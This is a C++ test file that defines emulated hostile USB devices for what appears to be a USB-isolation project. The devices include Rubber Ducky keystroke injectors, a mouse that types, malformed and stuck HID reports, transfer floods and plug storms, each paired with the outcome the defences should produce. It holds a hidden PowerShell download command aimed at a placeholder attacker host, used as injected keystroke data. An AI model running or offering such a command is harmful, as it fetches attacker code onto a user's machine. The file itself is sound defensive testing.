// SPDX-License-Identifier: GPL-2.0-or-later
// Keystrokes that nobody types, and more of anything than anybody asked for.
#include <algorithm>

#include "tests/attacks/attack.hpp"
#include "tests/attacks/emulator/honest.hpp"

namespace attacks {
namespace {

using namespace std::chrono_literals;

constexpr char approved_stick[] = "1209:0003:0123456789AB:u080650";
// What a Rubber Ducky's first script does: GUI+R, a program's name, Enter.
constexpr char payload[] = "\tpowershell -w hidden -c iwr evil.example/x\n";

Attack row(const char* id, Class kind, const char* source, const char* what, const Device& device,
           const Expected& plug = harmless(), const Expected& stream = harmless()) {
  return {id, kind, source, what, [device] { return device; }, plug, stream};
}

Device reports(const Memory& report, milliseconds pace) {
  Device device = keyboard();
  device.in[0x83] = [report, pace](std::uint32_t) {
    Answer answer = give(report);
    answer.delay = pace;
    return answer;
  };
  return device;
}

Attack ducky_as_stick() {
  Device device = typing_keyboard(payload, 2ms);
  device.descriptor = disk().descriptor;
  return {"ducky-as-stick",
          Class::input,
          "USB Rubber Ducky",
          "types a script; approved was a stick",
          [device] { return device; },
          refused("u030101"),
          refused("u030101"),
          {},
          {},
          approved_stick,
          {},
          "usbhid"};
}

// A mouse (HID 1.11, E.10) whose report descriptor is a keyboard's.
Device mouse_that_types() {
  Device device = typing_keyboard(payload, 2ms);
  device.configurations[0] = patched(device.configurations[0], 9 + 7, {2});
  return device;
}

Device storm(unsigned times) {
  Device device = keyboard().with({Step::set_configuration, unplug()});
  if (times > 0) device.reborn = [times] { return storm(times - 1); };
  return device;
}

Device echo_flood(std::size_t size) {
  Device device = echo();
  device.in[0x81] = [size](std::uint32_t asked) {
    return give(filled(std::min<std::size_t>(size, asked), 0x5a));
  };
  device.in[0x82] = device.in[0x81];
  return device;
}

}  // namespace

std::vector<Attack> input_attacks() {
  Device resets = keyboard().with({Step::report, unplug()});
  resets.reborn = [] { return keyboard(); };
  return {
      ducky_as_stick(),
      row("ducky-as-keyboard", Class::input, "USB Rubber Ducky",
          "types a script; approved was a keyboard", typing_keyboard(payload, 2ms),
          ended("types by itself"), ended("types by itself")),
      [] {
        Attack one =
            row("ducky-let", Class::input, "USB Rubber Ducky",
                "the same with auto-typing=yes: its keys arrive", typing_keyboard(payload, 2ms));
        one.options = "auto-typing=yes";
        return one;
      }(),
      row("key-held", Class::input, "HID 1.11", "a key's report every millisecond without end",
          reports(bytes({0, 0, 4, 0, 0, 0, 0, 0}), 1ms)),
      row("key-stuck", Class::input, "HID 1.11", "a key that is never released",
          reports(bytes({0, 0, 5, 0, 0, 0, 0, 0}), 20ms)),
      row("mouse-that-types", Class::input, "HID 1.11", "a mouse whose reports are a keyboard's",
          mouse_that_types(), refused("it is a mouse, but"), refused("it is a mouse, but")),
      row("report-short", Class::input, "HID 1.11", "reports of one byte",
          reports(bytes({4}), 5ms)),
      row("report-empty", Class::input, "HID 1.11", "reports of no bytes", reports({}, 5ms)),
      row("report-rollover", Class::input, "HID 1.11", "all keys at once, then none",
          reports(bytes({0xff, 0, 4, 5, 6, 7, 8, 9}), 5ms)),
      [] {
        Attack one = row("report-long", Class::input, "HID 1.11",
                         "reports longer than the endpoint's packets", reports(filled(64, 4), 5ms));
        one.streamed = ended("interrupt packet longer than the endpoint's packets");
        return one;
      }(),
      row("flood-interrupt", Class::floods, "exhaustion", "reports as fast as they are asked for",
          reports(bytes({0, 0, 6, 0, 0, 0, 0, 0}), 0ms)),
      row("flood-bytes", Class::floods, "exhaustion",
          "transfers of one byte as fast as they are asked for", echo_flood(1)),
      row("flood-bulk", Class::floods, "exhaustion", "transfers as large as they are asked for",
          echo_flood(1U << 20U)),
      {"storm-plug", Class::floods, "connect storm", "plugs and unplugs itself 20 times",
       [] { return storm(20); }, not_enumerated(), unplugged()},
      {"storm-once", Class::floods, "connect storm", "leaves while it is asked and comes back",
       [resets] { return resets; }, refused("unplugged in sys-usb"),
       refused("unplugged in sys-usb")},
  };
}

}  // namespace attacks
